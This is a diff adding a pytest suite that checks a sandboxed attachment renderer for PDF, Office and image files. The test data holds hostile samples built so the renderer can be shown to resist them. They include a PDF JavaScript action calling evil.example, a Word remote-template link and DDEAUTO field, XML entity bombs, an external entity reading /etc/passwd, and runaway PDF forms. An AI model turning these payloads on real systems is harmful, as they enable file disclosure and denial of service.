@@ -1,0 +1,376 @@
+"""Renderings of attached files: what they show, that the process which makes them can do nothing else, and refusals."""
+
+import hashlib
+import json
+import struct
+import subprocess
+import sys
+import zlib
+from dataclasses import asdict
+
+import pytest
+
+from demo.messages.files import INVOICE_PDF, RETURN_LABEL
+from mirror.attachments.detection import detect_file
+from mirror.attachments.preview import document_of, pdf_pages
+from mirror.attachments.renderings import store
+from mirror.attachments.renderings.refusals import SENTENCES, Refused
+from mirror.models import AttachedFile
+from tests import office_files
+from tests.integration.test_enclosed import check_frame, enclose, gateway, unread, view  # noqa: F401 -- fixtures
+
+PNG = b"\x89PNG\r\n\x1a\n"
+
+
+# What a process tries that was confined, with a network of its own or where the kernel refuses one; each must fail.
+TRIES = """
+import json, os, resource, socket, sys
+sys.path.insert(0, os.getcwd())
+from mirror.attachments.renderings import confinement
+if sys.argv[1] == "refused":
+    # No flag that there is.
+    confinement._NEW_NETWORK = 1
+has_own_network = confinement.confine()
+
+def fails(act):
+    try:
+        act()
+    except (OSError, ValueError):
+        return True
+    return False
+
+print(json.dumps({
+    "network": sys.argv[1] == "refused" and not has_own_network or sys.argv[1] == "asked",
+    "socket": fails(socket.socket),
+    "unix": fails(lambda: socket.socket(socket.AF_UNIX)),
+    "file": fails(lambda: open("/etc/passwd")),
+    "process": fails(os.fork),
+    "pipe": fails(os.pipe),
+    "limit": fails(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (9, 9))),
+    "account": os.geteuid() != 0,
+    "groups": 0 not in os.getgroups(),
+    "environment": "SECRET_KEY" not in os.environ,
+}))
+"""
+
+
+@pytest.fixture(autouse=True)
+def empty_folder(settings, tmp_path):
+    settings.DATA_DIR = tmp_path
+    return tmp_path / "renderings"
+
+
+def fetched(content, name="file"):
+    seen = detect_file(content, name=name, content_type="")
+    return AttachedFile(
+        name=name,
+        content=content,
+        found_size=len(content),
+        found_sha256=hashlib.sha256(content).hexdigest(),
+        kind=seen.kind,
+        seen=asdict(seen),
+        state="fetched",
+        place=1,
+    )
+
+
+def refusal_of(content):
+    """Return why a file is not shown, and check that its frame says so and its bytes stay."""
+    file = fetched(content)
+    with pytest.raises(Refused) as refused:
+        store.read_rendering(file)
+    said = pdf_pages(file).refusal if file.kind == "pdf" else document_of(file).html
+    assert SENTENCES[refused.value.reason].replace("'", "&#x27;") in said.replace("'", "&#x27;")
+    assert bytes(file.content) == content
+    return refused.value.reason
+
+
+@pytest.mark.parametrize("kernel", ["asked", "refused"])
+def test_process_that_reads_files_has_no_network_no_files_no_account_and_no_secrets(kernel, monkeypatch):
+    monkeypatch.setenv("SECRET_KEY", "of the desk")
+    done = subprocess.run(
+        [sys.executable, "-I", "-c", TRIES, kernel], env={}, capture_output=True, text=True, check=False
+    )
+    found = json.loads(done.stdout or "{}")
+    assert len(found) == 10, done.stderr
+    assert [name for name, is_held in found.items() if not is_held] == []
+
+
+def test_process_is_started_without_environment_or_descriptors_and_its_libraries_stay_out(monkeypatch):
+    seen = {}
+    started = subprocess.Popen
+
+    def watch(command, **options):
+        seen.update(options, command=command)
+        return started(command, **options)
+
+    monkeypatch.setattr(store.subprocess, "Popen", watch)
+    assert store.page_picture(fetched(INVOICE_PDF), 1).startswith(PNG)
+    assert (seen["env"], seen["command"][1], seen.get("close_fds", True)) == ({}, "-I", True)
+    assert "pypdfium2" not in sys.modules
+
+
+def test_pages_of_a_pdf_are_pictures_with_their_text_and_are_kept(monkeypatch, empty_folder):
+    file = fetched(INVOICE_PDF)
+    shown = pdf_pages(file)
+    [page] = shown.pages
+    assert (shown.refusal, shown.count, shown.next, page["number"]) == ("", 1, 0, 1)
+    assert "EUR 1,225.00" in page["text"]
+    picture = store.page_picture(file, 1)
+    assert struct.unpack(">II", picture[16:24]) == (page["width"], page["height"]) == (1190, 1684)
+    monkeypatch.setattr(store, "_run", None)
+    assert store.page_picture(file, 1) == picture
+    # What is kept is deleted when it is too much, or old.
+    assert store.drop_old_renderings() == 0
+    monkeypatch.setattr(store, "MAX_KEPT", len(picture))
+    assert store.drop_old_renderings() == 1
+    monkeypatch.setattr(store, "MAX_AGE", -1.0)
+    assert store.drop_old_renderings() == 1
+    assert list(empty_folder.glob("*-*")) == []
+
+
+def test_long_pdf_is_shown_in_parts_and_huge_or_tiny_pages_in_bounds():
+    file = fetched(office_files.pdf_of(2500))
+    shown = pdf_pages(file, first=197)
+    assert (shown.count, len(shown.pages), shown.next, shown.left_out) == (2500, 4, 0, 2300)
+    assert pdf_pages(file).next == 5
+    assert pdf_pages(file, first=201).refusal == SENTENCES["no_page"]
+    for box in ("0 0 100000 100000", "0 0 14400 1", "0 0 1 1"):
+        picture = store.page_picture(fetched(office_files.pdf_of(1, box=box)), 1)
+        assert max(struct.unpack(">II", picture[16:24])) <= 1701, box
+
+
+def test_script_of_a_pdf_does_nothing():
+    action = b"/OpenAction << /S /JavaScript /JS (while\\(true\\){}; app.launchURL\\('http://evil.example/'\\)) >> "
+    file = fetched(office_files.pdf_of(1, action=action))
+    assert store.page_picture(file, 1).startswith(PNG)
+    assert any("JavaScript" in flag["sentence"] for flag in file.seen["flags"])
+
+
+def test_workbook_shows_formulas_and_marks_what_excel_hides():
+    page = document_of(fetched(office_files.workbook(names="")))
+    assert page.is_shown
+    for words in (
+        "A rendering. The file itself is what is approved.",
+        "<h2>Sheet “Offer”</h2>",
+        'Sheet “Costs” <span class="ghost">hidden, and not listed in Excel&#x27;s menu</span>',
+        "<code>=B1*0.4</code>",
+        "<code>=SUM(B1:B9)</code>",
+        '<th scope="col">C <span class="ghost">hidden</span></th>',
+        "2023-03-15",
+        "Total &lt;b&gt;<span",
+        '<th scope="row">2 <span class="ghost">hidden</span></th>',
+        "Discount",
+    ):
+        assert words in page.html, words
+    assert "<script" not in page.html
+
+
+def test_document_marks_what_word_hides_and_names_what_it_would_load():
+    run = "<w:r><w:rPr><w:{}/></w:rPr><w:t>{}</w:t></w:r>"
+    white = run.format('color w:val="FFFFFF"', "white")
+    template = "https://evil.example/normal.dotm"
+    page = document_of(
+        fetched(
+            office_files.document(
+                '<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Offer &lt;script&gt;</w:t></w:r></w:p>'
+                f"<w:p>{run.format('vanish', 'not for you')}{white}"
+                "<w:del><w:r><w:delText>old price</w:delText></w:r></w:del>"
+                "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
+                "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Seats</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
+                more={
+                    "word/_rels/settings.xml.rels": office_files.relations(
+                        ("r1", "attachedTemplate", template, "elsewhere")
+                    )
+                },
+            )
+        )
+    )
+    for words in (
+        "<h2>Offer &lt;script&gt;</h2>",
+        "<b>hidden:</b> not for you",
+        "<b>white letters:</b> white",
+        "<b>deleted:</b> old price",
+        "<b>field code:</b> DDEAUTO cmd",
+        "<td>Seats</td>",
+        f"may load a template from {template}. Nothing was loaded here.",
+    ):
+        assert words in page.html, words
+
+
+def test_slides_and_open_documents_are_shown():
+    page = document_of(fetched(office_files.slides("Plan", "-Margin 40%"))).html
+    assert 'Slide 2 <span class="ghost">hidden</span>' in page
+    assert "Margin 40%" in page
+    page = document_of(fetched(office_files.open_sheet())).html
+    assert ("of:=1+1" in page, '1 <span class="ghost">hidden</span>' in page) == (True, True)
+
+
+def test_picture_shows_camera_place_dates_and_text():
+    def field(tag, kind, number, value):
+        return struct.pack("<HHI", tag, kind, number) + value
+
+    make = b"Pocket 7\0"
+    gps_at = 8 + 2 + 2 * 12 + 4
+    place_at = gps_at + 2 + 4 * 12 + 4
+    numbers = struct.pack("<6I", 52, 1, 31, 1, 12, 1) + struct.pack("<6I", 13, 1, 24, 1, 0, 1)
+    fields = field(0x0110, 2, len(make), struct.pack("<I", place_at + 48))
+    fields += field(0x8825, 4, 1, struct.pack("<I", gps_at))
+    gps = (
+        field(1, 2, 2, b"N\0\0\0")
+        + field(2, 5, 3, struct.pack("<I", place_at))
+        + field(3, 2, 2, b"E\0\0\0")
+        + field(4, 5, 3, struct.pack("<I", place_at + 24))
+    )
+    exif = b"II*\0\x08\0\0\0" + struct.pack("<H", 2) + fields + bytes(4) + struct.pack("<H", 4) + gps + bytes(4)
+    exif += numbers + make
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    text = chunk(b"tEXt", b"Author\0<b>Mona</b>") + chunk(b"eXIf", exif)
+    text += chunk(b"tIME", b"\x07\xea\x0b\x17\x04\x05\x06")
+    page = document_of(fetched(RETURN_LABEL[:33] + text + RETURN_LABEL[33:] + b"PK appended")).html
+    for words in (
+        "<dt>Camera model</dt><dd>Pocket 7</dd>",
+        "<dt>Place (GPS)</dt><dd>52.52000° N, 13.40000° E</dd>",
+        "<dt>Text “Author”</dt><dd>&lt;b&gt;Mona&lt;/b&gt;</dd>",
+        "2026-11-23 04:05:06",
+        "11 bytes that no program draws",
+    ):
+        assert words in page, words
+    assert "The file carries no metadata" in document_of(fetched(RETURN_LABEL)).html
+    # A picture whose metadata is broken is drawn all the same.
+    broken = RETURN_LABEL[:33] + chunk(b"eXIf", b"II*\0") + RETURN_LABEL[33:]
+    assert 'src="data:image/png' in document_of(fetched(broken)).html
+
+
+ENTITY = '<!DOCTYPE d [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+OUTSIDE = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+
+
+@pytest.mark.fault(
+    53,
+    injected="Files are cut, locked, unpack to far more than they are, nest elements without end, declare entities.",
+    held="Each is refused with a sentence of its own, and its bytes stay as they were sent.",
+)
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (office_files.locked_pdf, "locked"),
+        (lambda: INVOICE_PDF[:40], "broken"),
+        (lambda: b"%PDF-1.7 nothing", "broken"),
+        (lambda: office_files.workbook(strings=ENTITY + "<sst><si><t>&b;</t></si></sst>"), "entities"),
+        (lambda: office_files.workbook(strings=(OUTSIDE + "<sst/>").encode("utf-16")), "entities"),
+        (lambda: office_files.workbook(sheet=" " * (60 * 1024 * 1024)), "too_large"),
+        (lambda: office_files.workbook(sheet="<row>" * 5000), "broken"),
+        (lambda: office_files.document("<w:p>"), "broken"),
+    ],
+)
+def test_hostile_or_broken_file_is_refused_with_a_sentence(make, reason):
+    assert refusal_of(make()) == reason
+
+
+def endless_pdf():
+    """Return a PDF whose second page draws forms that each draw the next one ten times."""
+    levels = 9
+    draws = b"".join(
+        b"%d 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
+        b" /Length 60 >>\nstream\n%s\nendstream\nendobj\n" % (10 + at, 11 + at, b"/X Do " * 10)
+        for at in range(levels)
+    )
+    last = b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length 14 >>\nstream\n0 0 595 842 re\nendstream"
+    draws += b"%d 0 obj\n%s\nendobj\n" % (10 + levels, last)
+    page = b"4 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
+    page += (
+        b"5 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R"
+        b" /Resources << /XObject << /X 10 0 R >> >> >>\nendobj\n"
+        b"6 0 obj\n<< /Length 6 >>\nstream\n/X Do \nendstream\nendobj\n"
+    )
+    head = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
+    head += b"2 0 obj\n<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>\nendobj\n"
+    return head + page + draws + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
+
+
+@pytest.mark.fault(
+    53,
+    injected="A page of a PDF draws a billion forms.",
+    held="Its process ends at its limit, once; the page says so in its place, and the page before it is shown.",
+)
+def test_page_that_takes_too_long_ends_its_process_and_the_page_before_it_stays(monkeypatch):
+    file = fetched(endless_pdf())
+    monkeypatch.setattr(store, "DEADLINE", 3.0)
+    assert store.page_picture(file, 1).startswith(PNG)
+    with pytest.raises(Refused, match="too_much"):
+        store.page_picture(file, 2)
+    # It costs its time once.
+    monkeypatch.setattr(store, "_run", None)
+    with pytest.raises(Refused, match="too_much"):
+        store.page_picture(file, 2)
+
+
+@pytest.mark.fault(
+    53,
+    injected="A sheet needs more memory than its process may have.",
+    held="The process ends alone, and the file says that it takes too much.",
+)
+def test_process_that_needs_more_memory_than_it_may_use_says_so(monkeypatch):
+    # Many small elements take many times their size.
+    file = fetched(office_files.workbook(sheet="<row><c><v/></c></row>" * 700_000))
+    with pytest.raises(Refused, match="too_much"):
+        store.read_rendering(file)
+
+
+def test_more_files_than_are_prepared_at_once_say_so_and_are_prepared_later(monkeypatch):
+    monkeypatch.setattr(store, "PATIENCE", 0.01)
+    for _ in range(store.SLOTS):
+        store._slots.acquire()
+    try:
+        shown = pdf_pages(fetched(INVOICE_PDF))
+        picture = document_of(fetched(RETURN_LABEL)).html
+    finally:
+        for _ in range(store.SLOTS):
+            store._slots.release()
+    assert (shown.is_busy, SENTENCES["busy"] in shown.refusal) == (True, True)
+    # A picture is drawn all the same.
+    assert ("data:image/png" in picture, "Its metadata could not be read" in picture) == (True, True)
+    assert pdf_pages(fetched(INVOICE_PDF)).count == 1
+
+
+def test_process_that_cannot_begin_is_no_fault_of_the_file(monkeypatch):
+    file = fetched(INVOICE_PDF)
+    with monkeypatch.context() as patched:
+        patched.setattr(store, "PROGRAM", "/nowhere/program.py")
+        assert SENTENCES["failed"] in pdf_pages(file).refusal
+    assert pdf_pages(file).refusal == ""
+
+
+def test_full_disk_is_said(monkeypatch):
+    def full(*_, **__):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(store.tempfile, "TemporaryFile", full)
+    assert SENTENCES["no_room"] in pdf_pages(fetched(INVOICE_PDF)).refusal
+
+
+@pytest.mark.django_db
+def test_pages_are_served_like_files_count_as_viewed_and_only_where_something_was_shown(desk, enclose, reviewer):  # noqa: F811
+    message = enclose(("offer.pdf", INVOICE_PDF, "application/pdf"), ("locked.pdf", office_files.locked_pdf()))
+    digest = message.files.get(place=1).found_sha256
+    assert ">2 parts unread</a>" in unread(desk, message)
+    page = view(desk, message, 2, "pages/").content.decode()
+    assert SENTENCES["locked"] in page
+    assert ">2 parts unread</a>" in unread(desk, message)
+
+    page = view(desk, message, 1, "pages/", **{"HX-Request": "true"}).content.decode()
+    assert f'src="/queue/{message.public_id}/files/1/pages/1/"' in page
+    assert "EUR 1,225.00" in page
+    assert ">1 part unread</a>" in unread(desk, message)
+    picture = view(desk, message, 1, "pages/1/")
+    check_frame(picture)
+    assert (picture["Content-Type"], picture.content[:8]) == ("image/png", PNG)
+    missing = view(desk, message, 2, "pages/1/")
+    check_frame(missing)
+    assert (missing.status_code, SENTENCES["locked"] in missing.content.decode()) == (404, True)
+    # What is approved stays what came.
+    assert hashlib.sha256(view(desk, message, 1, "download/").content).hexdigest() == digest
